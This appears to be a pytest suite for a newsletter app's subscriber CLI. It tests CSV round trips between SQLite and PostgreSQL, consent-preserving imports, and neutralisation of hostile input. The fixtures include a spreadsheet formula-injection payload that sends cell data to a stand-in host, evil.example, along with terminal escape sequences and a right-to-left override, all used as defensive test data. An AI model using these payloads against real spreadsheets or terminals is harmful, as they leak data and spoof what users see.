"""Subscribers as an admin moves and manages them (issue 12 §5, issue 17 §3): a lossless CSV
round trip SQLite -> PostgreSQL, imports that never change anyone's consent, CSV formula
injection and terminal escapes kept inert. Through the installed CLI in a subprocess."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from digest.store.db import dispose_all, session_scope
from digest.store.models import Subscriber
from digest.store.settings import Settings
from digest.subscribers import export_csv, import_csv
from tests.conftest import TEST_DB
from tests.test_cli import digest as run_cli

def digest(*args, check=None):
    """The CLI in a subprocess; stderr with its line wrapping undone (rich wraps at 80 columns)."""
    out = run_cli(*args, check=check)
    out.stderr = " ".join(out.stderr.split())
    return out


TOPICS = {"medical-segmentation", "vision-language", "efficient-attention"}
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def utc(*a) -> datetime:
    return datetime(*a, tzinfo=timezone.utc)


def people(session) -> None:
    """One subscriber per state an export must keep, with every field set to a non-default."""
    rows = [
        dict(email="ada@example.org", name="Ada, \"the\" Countess", topics=["vision-language", "medical-segmentation"],
             timezone="Europe/Berlin", status="active", frequency="weekly", weekly_day=3, send_time="06:30",
             trending=True, confirmed_at=utc(2026, 3, 1, 9, 0, 1, 250000)),
        dict(email="gone@example.org", name="Gone", topics=["efficient-attention"], status="unsubscribed",
             status_at=utc(2026, 10, 2, 17, 45, 3)),
        dict(email="never@example.org", name=None, topics=["vision-language"], status="pending",
             timezone="America/New_York"),
        dict(email="paused@example.org", name="Zoë Ünïcode", topics=["medical-segmentation"], status="paused"),
        dict(email="bounced@example.org", name="-1+2", topics=["vision-language"], status="bounced"),
        dict(email="=cmd@example.org", name=HOSTILE, topics=["efficient-attention"], status="active"),
        dict(email="quote@example.org", name="'=already quoted", topics=["vision-language"], status="active"),
    ]
    for i, row in enumerate(rows):
        row.setdefault("status_at", utc(2026, 9, 1 + i, 8, 0, 0))
        row.setdefault("consented_at", utc(2026, 2, 1 + i, 7, 30, 0, 123456))
        row.setdefault("created_at", utc(2026, 2, 1 + i, 7, 29, 59))
        session.add(Subscriber(**row))


@pytest.fixture
def any_postgres(request):
    """A PostgreSQL server on either run: the session's on PostgreSQL runs, one of its own on
    SQLite runs (the round trip needs both databases)."""
    if TEST_DB == "postgresql":
        yield request.getfixturevalue("postgres")
        return
    from tests.pg_server import PostgresUnavailable, TempPostgres

    try:
        server = TempPostgres().start()
    except PostgresUnavailable as exc:
        pytest.skip(str(exc))
    try:
        yield server
    finally:
        dispose_all()
        server.stop()


def test_export_import_round_trip_sqlite_to_postgresql_is_lossless(settings, tmp_path, monkeypatch, any_postgres):
    source = f"sqlite:///{tmp_path}/source.db"
    target = any_postgres.create_database("roundtrip")
    monkeypatch.setenv("DIGEST_DATABASE_URL", source)
    with session_scope(Settings(database_url=source)) as s:
        people(s)
    first = tmp_path / "first.csv"
    digest("subscribers", "export", "--out", str(first), check=0)

    monkeypatch.setenv("DIGEST_DATABASE_URL", target)
    out = digest("subscribers", "import", str(first), check=0)
    assert "7 added, 0 updated, 0 bad rows" in out.stdout
    second = tmp_path / "second.csv"
    digest("subscribers", "export", "--out", str(second), check=0)
    assert second.read_bytes() == first.read_bytes()

    fields = ("name", "topics", "timezone", "status", "status_at", "frequency", "weekly_day", "send_time",
              "trending", "consented_at", "confirmed_at", "created_at")
    with session_scope(Settings(database_url=source)) as a, session_scope(Settings(database_url=target)) as b:
        before = {x.email: tuple(getattr(x, f) for f in fields) for x in a.query(Subscriber)}
        after = {x.email: tuple(getattr(x, f) for f in fields) for x in b.query(Subscriber)}
        assert after == before
        assert sum(x.status == "active" for x in b.query(Subscriber)) == 3
        secrets_ = {x.email: x.link_secret for x in a.query(Subscriber)}
        assert all(x.link_secret and x.link_secret != secrets_[x.email] for x in b.query(Subscriber))
    assert "link_secret" not in first.read_text() and all(v not in first.read_text() for v in secrets_.values())


def test_a_move_with_links_keeps_links_in_sent_emails_working(settings, tmp_path, monkeypatch, any_postgres):
    """`export --with-links` into an empty PostgreSQL: same ids and link secrets, so the one-click
    unsubscribe link of an email sent before the move still unsubscribes; the id sequence moves
    past the imported ids; the file is private; an id taken in the target is an error line."""
    import os
    import stat

    from starlette.testclient import TestClient

    from digest import tokens
    from digest.web.app import create_app

    source = f"sqlite:///{tmp_path}/source.db"
    target = any_postgres.create_database("move_links")
    monkeypatch.setenv("DIGEST_DATABASE_URL", source)
    with session_scope(Settings(database_url=source)) as s:
        people(s)
        s.flush()
        s.delete(s.query(Subscriber).filter_by(email="never@example.org").one())   # a gap in the ids
    with session_scope(Settings(database_url=source)) as s:
        links = {x.email: (x.id, tokens.unsubscribe_url(settings, x.id, x.link_secret)) for x in s.query(Subscriber)}
    moved = tmp_path / "moved.csv"
    digest("subscribers", "export", "--with-links", "--out", str(moved), check=0)
    assert stat.S_IMODE(os.stat(moved).st_mode) == 0o600

    monkeypatch.setenv("DIGEST_DATABASE_URL", target)
    assert "6 added, 0 updated, 0 bad rows" in digest("subscribers", "import", str(moved), check=0).stdout
    again = tmp_path / "again.csv"
    digest("subscribers", "export", "--with-links", "--out", str(again), check=0)
    assert again.read_bytes() == moved.read_bytes()
    with session_scope(Settings(database_url=target)) as b:
        assert {x.email: x.id for x in b.query(Subscriber)} == {e: i for e, (i, _) in links.items()}
    digest("subscribers", "add", "new@example.org", "--topics", "vision-language", check=0)
    with session_scope(Settings(database_url=target)) as b:
        assert b.query(Subscriber).filter_by(email="new@example.org").one().id > max(i for i, _ in links.values())

    client = TestClient(create_app(Settings(database_url=target)), base_url="https://digest.example.org")
    path = links["ada@example.org"][1].removeprefix(settings.public_url)
    r = client.post(path, data={"List-Unsubscribe": "One-Click"})
    assert r.status_code == 200, r.text
    with session_scope(Settings(database_url=target)) as b:
        assert b.query(Subscriber).filter_by(email="ada@example.org").one().status == "unsubscribed"

    clash = tmp_path / "clash.csv"
    header, *rows = moved.read_text().splitlines()
    ada_id = str(links["ada@example.org"][0])
    row = next(r for r in rows if r.startswith("ada@example.org"))
    clash.write_text(header + "\n" + row.replace("ada@example.org", "ada2@example.org", 1) + "\n" + rows[0] + "\n")
    out = digest("subscribers", "import", str(clash), check=1)
    assert f"id {ada_id} is ada@example.org here" in out.stderr


def test_export_neutralises_formulas_and_import_restores_them(settings):
    with session_scope(settings) as s:
        people(s)
        text = export_csv(s)
    rows = list(csv.reader(io.StringIO(text)))
    dangerous = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    by_email = {r[0]: r for r in rows[1:]}
    assert by_email["'=cmd@example.org"][1] == "'" + HOSTILE
    assert by_email["bounced@example.org"][1] == "'-1+2"
    assert by_email["quote@example.org"][1] == "''=already quoted"
    with session_scope(settings) as s:
        for sub in s.query(Subscriber):
            s.delete(sub)
    with session_scope(settings) as s:
        report = import_csv(s, text, known_topics=TOPICS)
        assert report.errors == [] and report.added == 7
        names = {x.email: x.name for x in s.query(Subscriber)}
    assert names["=cmd@example.org"] == HOSTILE and names["bounced@example.org"] == "-1+2"
    assert names["quote@example.org"] == "'=already quoted"


def test_import_never_makes_anyone_active_who_was_not(settings, tmp_path):
    with session_scope(settings) as s:
        people(s)
    f = tmp_path / "stale.csv"
    f.write_text("email,name,topics,timezone,status\n"
                 "gone@example.org,Gone,vision-language,UTC,active\n"
                 "never@example.org,,vision-language,UTC,active\n"
                 "paused@example.org,P,vision-language,UTC,\n"
                 "ada@example.org,Ada,efficient-attention,UTC,unsubscribed\n", encoding="utf-8")
    out = digest("subscribers", "import", str(f), check=1)
    assert f"{f}:2: gone@example.org is unsubscribed since 2026-10-02" in out.stderr
    assert f"{f}:3: never@example.org is pending" in out.stderr
    assert "2 updated, 2 bad rows" in out.stdout
    with session_scope(settings) as s:
        status = {x.email: x.status for x in s.query(Subscriber)}
    assert status["gone@example.org"] == "unsubscribed" and status["never@example.org"] == "pending"
    assert status["paused@example.org"] == "paused" and status["ada@example.org"] == "unsubscribed"


def test_import_rejects_duplicates_empty_topics_and_control_characters(settings, tmp_path):
    f = tmp_path / "bad.csv"
    f.write_text("email,name,topics,timezone\n"
                 "dup@example.org,First,vision-language,UTC\n"
                 "DUP@example.org,Second,efficient-attention,UTC\n"
                 "empty@example.org,E,,UTC\n"
                 "esc@example.org,\"\x1b]0;owned\x07\x1b[2J\",vision-language,UTC\n"
                 "ok@example.org,Fine,vision-language,UTC\n", encoding="utf-8")
    out = digest("subscribers", "import", str(f), check=1)
    assert f"{f}:3: dup@example.org is already on line 2 of this file" in out.stderr
    assert f"{f}:4: no topics" in out.stderr
    assert f"{f}:5: name contains a control character (\\x1b)" in out.stderr
    assert "\x1b" not in out.stderr + out.stdout
    assert "2 added, 0 updated, 3 bad rows" in out.stdout
    with session_scope(settings) as s:
        dup = s.query(Subscriber).filter_by(email="dup@example.org").one()
        assert dup.name == "First" and dup.topics == ["vision-language"]
        assert s.query(Subscriber).filter_by(email="esc@example.org").one_or_none() is None
    bad_header = tmp_path / "header.csv"
    bad_header.write_text("email,topics,colour\nx@example.org,vision-language,red\n", encoding="utf-8")
    out = digest("subscribers", "import", str(bad_header), check=1)
    assert "unknown column(s) 'colour'" in out.stderr


def test_control_characters_are_refused_at_input_and_never_printed_raw(settings, monkeypatch):
    out = digest("subscribers", "add", "t@example.org", "--topics", "vision-language", "--name", "a\x1b[2Jb")
    assert out.returncode == 2 and "control character" in out.stderr and "\x1b" not in out.stderr
    # rows stored before the check existed (or written around it) are shown escaped
    with session_scope(settings) as s:
        s.add(Subscriber(email="old@example.org", name="\x1b]0;owned\x07[bold]x[/bold]\u202e", topics=["vision-language"]))
    monkeypatch.setenv("COLUMNS", "300")     # one table row per subscriber
    listed = digest("subscribers", "list", check=0).stdout
    assert "\x1b" not in listed and "\x07" not in listed and "\u202e" not in listed
    assert "\\x1b]0;owned\\x07[bold]x[/bold]\\u202e" in listed     # shown escaped, not read as markup


def test_set_topics_refuses_an_empty_list(settings):
    digest("subscribers", "add", "s@example.org", "--topics", "vision-language", check=0)
    for value in ("", " , "):
        out = digest("subscribers", "set-topics", "s@example.org", "--topics", value)
        assert out.returncode == 2 and "no topics" in out.stderr
    with session_scope(settings) as s:
        assert s.query(Subscriber).filter_by(email="s@example.org").one().topics == ["vision-language"]


def test_adding_an_unsubscribed_address_says_so_and_reconfirm_asks_them(settings, tmp_path, clock):
    from digest import clock as app_clock

    digest("subscribers", "add", "u@example.org", "--topics", "vision-language", check=0)
    digest("subscribers", "remove", "u@example.org", check=0)
    out = digest("subscribers", "add", "u@example.org", "--topics", "vision-language")
    assert out.returncode == 2
    days = {clock.strftime("%Y-%m-%d"), app_clock.now().strftime("%Y-%m-%d")}   # the clock runs on
    assert any(f"u@example.org is unsubscribed since {d}" in out.stderr for d in days), out.stderr
    assert "reconfirm" in out.stderr
    assert "already subscribed" not in out.stderr
    with session_scope(settings) as s:
        assert s.query(Subscriber).filter_by(email="u@example.org").one().status == "unsubscribed"
    out = digest("subscribers", "reconfirm", "u@example.org", check=0)
    assert "pending" in out.stdout
    mails = list((tmp_path / "outbox").rglob("*.eml"))
    assert len(mails) == 1 and "/confirm/" in mails[0].read_text()
    with session_scope(settings) as s:
        assert s.query(Subscriber).filter_by(email="u@example.org").one().status == "pending"
    digest("subscribers", "add", "a@example.org", "--topics", "vision-language", check=0)
    assert "already active" in digest("subscribers", "reconfirm", "a@example.org", check=2).stderr


def test_reconfirm_that_cannot_mail_changes_nothing(settings, monkeypatch):
    """The mail server is down (a closed port on 127.0.0.1): one line, exit 1, and the
    subscriber stays unsubscribed, with the date they left."""
    from tests.smtp_server import free_port

    digest("subscribers", "add", "u@example.org", "--topics", "vision-language", check=0)
    digest("subscribers", "remove", "u@example.org", check=0)
    with session_scope(settings) as s:
        before = s.query(Subscriber).filter_by(email="u@example.org").one()
        left_at, consented = before.status_at, before.consented_at
    monkeypatch.setenv("DIGEST_DELIVERY", f"smtp://127.0.0.1:{free_port()}")
    monkeypatch.setenv("DIGEST_SMTP_RETRIES", "0")
    out = run_cli("subscribers", "reconfirm", "u@example.org")
    assert out.returncode == 1
    lines = [line for line in out.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: confirmation mail to u@example.org not sent"), out.stderr
    assert "nothing changed" in out.stderr
    with session_scope(settings) as s:
        after = s.query(Subscriber).filter_by(email="u@example.org").one()
        assert (after.status, after.status_at, after.consented_at) == ("unsubscribed", left_at, consented)
